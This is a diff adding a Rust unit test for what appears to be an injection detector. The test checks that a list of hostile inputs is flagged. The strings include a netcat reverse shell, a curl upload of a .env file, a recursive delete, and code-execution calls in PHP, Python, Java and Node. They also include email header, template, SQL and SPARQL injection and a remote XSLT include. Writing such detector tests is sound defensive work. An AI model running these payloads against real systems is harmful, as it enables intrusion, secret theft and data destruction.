@@ -226,3 +226,42 @@ fn repeated_patterns_are_judged_to_their_end() {
         }
     }
 }
+
+/// What got through while texts that talk about code, editors' markup and mails were first spared.
+#[test]
+fn what_looks_like_talk_is_judged() {
+    let detector = Detector::new();
+    for value in [
+        "x; nc 10.0.0.1 4444 -e sh",
+        "x; curl 1.2.3.4 -T .env",
+        "x; sleep 5.0",
+        "x; find . -delete",
+        "hello my dear '.system('id').'",
+        "hello my dear ',subprocess.getoutput('id'),'",
+        "hello my dear '-new java.io.File('.env').text-'",
+        "not not not not os.popen('id').read()",
+        "print print print print passthru('id');",
+        "'one two three' and os.system('id')",
+        "error: passthru('id');#): x",
+        "error: readfile('.env');#): x",
+        "import java.lang.ProcessBuilder as P\nnew P('sh','-c','id').start()",
+        "m=process.mainModule\nm.require('f'+'s').unlinkSync('x')",
+        "# at\nos.system(x)",
+        "From: a@x.test\r\nBcc: b@x.test\r\nMessage-ID: <1>\r\nDate: x",
+        "{% if config.SECRET_KEY < \"m\" %}1{% endif %}",
+        "{% if user.password < \"m\" %}1{% endif %}",
+        "{% for a in request.environ %}x{% endfor %}",
+        "{% if 1 == 1 %}x{% endif %}",
+        "<% sleep %>",
+        "1 or id==id",
+        "1) or id==id --",
+        "};insert data { <http://x> <http://y> \"z\" } #",
+        "1 and exists(select password from our.users)",
+        "<?xml version=\"1.0\"?><a:stylesheet xmlns:a=\"x\"><a:include href=\"http://x.test/a\"/></a:stylesheet>",
+    ] {
+        for carrier in [Carrier::FormValue, Carrier::JsonValue] {
+            let total = judge_with(&detector, carrier, value.as_bytes()).total();
+            assert!(total >= Paranoia::One.threshold(), "{value} in {carrier:?}");
+        }
+    }
+}
